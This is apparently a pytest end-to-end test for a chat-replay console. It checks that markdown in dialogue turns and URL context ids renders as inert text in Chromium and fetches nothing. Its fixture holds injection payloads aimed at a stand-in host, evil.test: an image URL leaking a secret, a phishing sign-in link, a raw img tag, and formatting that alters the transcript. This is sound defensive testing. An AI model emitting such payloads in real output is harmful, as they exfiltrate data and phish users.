"""Markdown from a dialogue, a context id or a URL is shown as text in a real browser (issue 13, item 3).

A turn holding ``![s](http://evil.test/pixel.png?leak=...)`` used to make the operator's browser
fetch that address when Replay opened; ``[Sign in again](http://evil.test/phish)`` rendered as a
live link; ``/sessions?context_id=...`` reflected markdown into the page; ``:red[...]``, ``**`` and
``~~`` changed the transcript the operator reads. Here a real server serves a context whose turns
carry every such payload, and a real Chromium opens Sessions, Replay and Facts: no request leaves
the machine, no link or image points outside, and the payload reads verbatim.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from core.formats import parse_line
from data.store import Store
from tests.console.builders import build_ingest
from tests.e2e.conftest import _require_chromium, serve_console, settle
from tests.reliability.cases import covers

pytestmark = pytest.mark.e2e
SECTION = "Issue 13: second round"
CID = "inj-**bold**-ctx"
PAYLOAD = (
    "Look ![s](http://evil.test/pixel.png?leak=secret) and [Sign in again](http://evil.test/phish) "
    ":red[ALERT] **loud** ~~gone~~ <img src=http://evil.test/x.png> http://evil.test/auto"
)
VERBATIM = ("[Sign in again](http", ":red[ALERT]", "**loud**", "~~gone~~", "![s](http")


def _dialogue_line() -> str:
    import json

    turns = [
        {"idx": 0, "role": "user", "text": f"I want a table for 2 in the centre. {PAYLOAD}"},
        {"idx": 1, "role": "assistant", "text": f"Sure. {PAYLOAD}"},
        {"idx": 2, "role": "user", "text": f"Make it 7pm please. {PAYLOAD}"},
        {"idx": 3, "role": "assistant", "text": "Booked."},
    ]
    return json.dumps({"context_id": CID, "source": "x](http://evil.test/src)", "lang": "en", "turns": turns})


@pytest.fixture(scope="module")
def injected_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    _require_chromium()
    folder = tmp_path_factory.mktemp("inject")
    db = folder / "console.duckdb"
    store = Store.open(db, linger=0)
    store.save_contexts([build_ingest(parse_line(_dialogue_line(), 1))])
    store.close()
    env = {"CONSOLE_AUTH": "off", "CONSOLE_ROLE": "operator", "CONSOLE_ACTOR": "e2e-operator"}
    with serve_console(db, folder / "streamlit.log", env) as url:
        yield url


@pytest.fixture
def tab(browser, injected_server: str) -> Iterator[tuple[object, list[str]]]:
    """A tab of the suite's Chromium that refuses every request leaving 127.0.0.1 and records those to
    the payload's host (Streamlit itself asks fonts.gstatic.com for its page icon: refused, not counted)."""
    context = browser.new_context(viewport={"width": 1400, "height": 1200})
    context.set_default_timeout(90_000)
    left: list[str] = []
    local = ("http://127.0.0.1", "data:", "blob:")

    def route(r) -> None:
        if r.request.url.startswith(local):
            r.continue_()
        else:
            if "evil.test" in r.request.url:
                left.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    yield context.new_page(), left
    context.close()


def _outside_links_and_images(page) -> list[str]:
    return page.evaluate(
        """() => [...document.querySelectorAll('[data-testid=stMain] a[href], [data-testid=stMain] img[src],'
                + '[data-testid=stSidebar] a[href]')]
            .map(e => e.href || e.src).filter(u => !u.startsWith(location.origin))"""
    )


def _formatted(page) -> list[str]:
    """Pieces of the payload that became formatting of their own: bold, struck, coloured (the page's
    own bold around a whole value is not one of them)."""
    return page.evaluate(
        """() => [...document.querySelectorAll('[data-testid=stMain] strong, [data-testid=stMain] del,'
                + '[data-testid=stMain] span[style*=color]')]
            .map(e => e.innerText.trim()).filter(t => /^(ALERT|loud|gone|bold|Sign in again)$/.test(t))"""
    )


def _open(page, url: str) -> str:
    page.goto(url)
    page.wait_for_selector("[data-testid='stMain'] h1")
    settle(page)
    page.wait_for_timeout(1500)  # an image would be fetched by now
    return page.locator("[data-testid='stMain']").inner_text()


@covers(SECTION, "3. markdown in turns, context ids and sources is shown as text (real browser)")
@pytest.mark.parametrize(
    "path",
    [
        "/replay?context_id={cid}&turn=0",
        "/replay?context_id={cid}&turn=1",
        "/sessions?context_id={cid}",
        "/facts?context_id={cid}",
    ],
)
def test_markdown_from_a_dialogue_is_shown_as_text_and_fetches_nothing(path, tab, injected_server):
    page, left = tab
    from urllib.parse import quote

    text = _open(page, injected_server + path.format(cid=quote(CID)))
    assert left == []  # the browser asked the payload's host for nothing
    assert _outside_links_and_images(page) == []
    assert _formatted(page) == []
    if path.startswith("/replay"):
        for piece in VERBATIM:
            assert piece in text.replace("\u2060", ""), piece
    if path.startswith("/sessions"):
        assert CID in text.replace("\u2060", "")  # the heading: the id as it is, not bold


@covers(SECTION, "3. a context id in the URL is reflected as text, not markdown (real browser)")
def test_a_markdown_context_id_in_the_url_is_reflected_as_text(tab, injected_server):
    from urllib.parse import quote

    page, left = tab
    wanted = "[Sign in again](http://evil.test/phish) ![p](http://evil.test/p.png) :red[X]"
    text = _open(page, f"{injected_server}/sessions?context_id={quote(wanted)}")
    assert left == [] and _outside_links_and_images(page) == []
    assert "No context" in text and wanted in text.replace("\u2060", "")
